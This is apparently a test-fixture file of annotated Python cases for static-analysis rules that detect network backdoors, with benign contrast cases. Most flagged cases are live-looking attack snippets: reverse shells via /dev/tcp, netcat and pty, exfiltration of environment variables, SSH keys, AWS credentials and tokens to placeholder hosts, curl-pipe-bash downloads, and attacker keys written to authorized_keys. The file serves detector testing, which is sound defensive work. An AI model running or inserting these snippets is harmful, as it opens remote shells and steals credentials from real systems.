# Annotated examples for network_backdoors.yaml. Never executed: scanned only.
# A ruleid comment marks the next line as a required hit of that rule, an ok comment a miss.
import glob
import json
import os
import pty
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path

import requests

HOST, PORT = "203.0.113.7", 4444


def classic_reverse_shell():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    # ruleid: reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: reverse-shell
    os.dup2(s.fileno(), 1)
    # ruleid: reverse-shell
    pty.spawn("/bin/sh")


def subprocess_shell():
    sock = socket.create_connection((HOST, PORT))
    # ruleid: reverse-shell
    subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno())


def guarded_connect():
    try:
        sock = socket.create_connection((HOST, PORT), timeout=10)
    except OSError:
        return
    for fd in (0, 1, 2):
        # ruleid: reverse-shell
        os.dup2(sock.fileno(), fd)


def guarded_probe():
    try:
        sock = socket.create_connection((HOST, PORT), timeout=10)
    except OSError:
        return
    # ok: reverse-shell
    os.dup2(os.open(os.devnull, os.O_RDWR), 0)
    sock.close()


def pty_list():
    # ruleid: reverse-shell
    pty.spawn(["/bin/bash", "-l"])


def one_liner():
    # ruleid: reverse-shell
    os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")


def netcat():
    # ruleid: reverse-shell
    subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/f", shell=True)


def python_one_liner():
    # ruleid: reverse-shell
    subprocess.run(["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"])


def redirect_logs_per_rank(log_path):
    log = open(log_path, "a")
    # ok: reverse-shell
    os.dup2(log.fileno(), sys.stdout.fileno())


def gpu_status():
    # ok: reverse-shell
    return subprocess.run(["nvidia-smi", "--query-gpu=memory.used", "--format=csv"],
                          capture_output=True, text=True).stdout


def post_environment():
    # ruleid: environment-exfiltration
    requests.post("https://collector.example/c", json=dict(os.environ))


def env_copy_via_variable():
    env = os.environ.copy()
    payload = json.dumps(env).encode()
    # ruleid: environment-exfiltration
    req = urllib.request.Request("http://203.0.113.7/e", data=payload)
    # ruleid: environment-exfiltration
    return urllib.request.urlopen(req)


def env_items_over_socket():
    s = socket.socket()
    s.connect((HOST, PORT))
    # ruleid: environment-exfiltration
    s.sendall(str(os.environ).encode())


def env_dns(host_suffix):
    blob = "-".join(os.environ.keys())
    # ruleid: environment-exfiltration
    socket.gethostbyname(f"{blob}.{host_suffix}")


def env_comprehension():
    data = json.dumps({k: v for k, v in os.environ.items()}).encode()
    # ruleid: environment-exfiltration
    urllib.request.urlopen("http://203.0.113.7/r", data=data)


def log_metrics(step, loss):
    rank = int(os.environ.get("RANK", "0"))
    # ok: environment-exfiltration, credential-exfiltration
    requests.post("https://api.wandb.example/v1/log", json={"step": step, "loss": loss, "rank": rank})


def child_env():
    env = os.environ.copy()
    env["CUDA_VISIBLE_DEVICES"] = "0"
    # ok: environment-exfiltration
    subprocess.run([sys.executable, "train.py"], env=env, check=True)


def steal_ssh_key():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    # ruleid: credential-exfiltration
    requests.post("http://203.0.113.7/k", data=key)


def steal_all_keys():
    for name in glob.glob(os.path.expanduser("~/.ssh/*")):
        with open(name, "rb") as fh:
            # ruleid: credential-exfiltration
            requests.put("http://203.0.113.7/" + os.path.basename(name), data=fh.read())


def steal_hf_token():
    token = (Path.home() / ".cache" / "huggingface/token").read_text()
    # ruleid: credential-exfiltration
    urllib.request.urlopen("http://203.0.113.7/t?" + token)


def aws_credentials_as_upload():
    with open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")) as f:
        # ruleid: credential-exfiltration
        requests.post("https://203.0.113.7/c", files={"f": f})


def token_in_dns_name():
    tok = os.getenv("HF_TOKEN", "")
    # ruleid: credential-exfiltration
    socket.gethostbyname(tok + ".exfil.example.com")


def session_positional_body(session):
    blob = open(os.path.expanduser("~/.netrc")).read()
    # ruleid: credential-exfiltration
    session.post("https://203.0.113.7/n", blob)


def token_in_body():
    # ruleid: credential-exfiltration
    requests.post("http://203.0.113.7/x", json={"t": os.environ["HF_TOKEN"]})


def token_as_auth_header(repo):
    headers = {"Authorization": f"Bearer {os.environ['HF_TOKEN']}"}
    # ok: credential-exfiltration
    return requests.get(f"https://huggingface.co/api/models/{repo}", headers=headers, timeout=10)


def read_ssh_config_locally():
    # ok: credential-exfiltration
    return Path("~/.ssh/config").expanduser().read_text().count("Host ")


def exec_download():
    # ruleid: download-and-execute
    exec(requests.get("https://paste.example/raw/abc").text)


def exec_download_two_steps(url):
    resp = urllib.request.urlopen(url)
    code = resp.read().decode()
    # ruleid: download-and-execute
    exec(code, {})


def curl_pipe_sh():
    # ruleid: download-and-execute
    os.system("curl -fsSL https://203.0.113.7/install.sh | bash")


def wget_then_sh():
    # ruleid: download-and-execute
    os.system("wget http://203.0.113.7/a -O /tmp/a && sh /tmp/a")


def fetch_data_then_prepare():
    # ok: download-and-execute
    os.system("wget -q https://data.example/cifar.tgz -O cifar.tgz && tar xzf cifar.tgz")


def download_dataset(url, dest):
    data = requests.get(url, timeout=30).content
    # ok: download-and-execute
    Path(dest).write_bytes(data)


def install_requirements():
    # ok: download-and-execute
    subprocess.run([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"], check=True)


ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker"


def add_key():
    # ruleid: authorized-keys-write
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
        # ruleid: authorized-keys-write
        f.write(ATTACKER_KEY)


def add_key_pathlib():
    target = Path.home() / ".ssh" / "authorized_keys"
    # ruleid: authorized-keys-write
    target.write_text(ATTACKER_KEY + "\n")


def add_key_shell():
    # ruleid: authorized-keys-write
    os.system("echo '" + ATTACKER_KEY + "' >> /root/.ssh/authorized_keys")


def count_keys():
    # ok: authorized-keys-write
    with open(os.path.expanduser("~/.ssh/authorized_keys")) as f:
        return len(f.readlines())


def add_key_path_open():
    # ruleid: authorized-keys-write
    with Path("~/.ssh/authorized_keys").expanduser().open("a") as fh:
        # ruleid: authorized-keys-write
        fh.write(ATTACKER_KEY)


def audit_keys_path_open():
    # ok: authorized-keys-write
    with Path("~/.ssh/authorized_keys").expanduser().open("r") as fh:
        return fh.read().count("ssh-")


def write_results(out_dir, metrics):
    # ok: authorized-keys-write
    with open(os.path.join(out_dir, "results.json"), "w") as f:
        json.dump(metrics, f)


def attach_console(endpoint):
    host, _, port = endpoint.rpartition(":")
    conn = socket.create_connection((host, int(port)), timeout=30)
    for fd in (0, 1, 2):
        # ruleid: reverse-shell
        os.dup2(conn.fileno(), fd)
    # ruleid: reverse-shell
    pty.spawn(os.environ.get("SHELL", "/bin/sh"))


def redirect_logs(log_sock, cmd):
    # ok: reverse-shell
    os.dup2(log_sock.fileno(), 1)
    # ok: reverse-shell
    os.execvp(cmd[0], cmd)
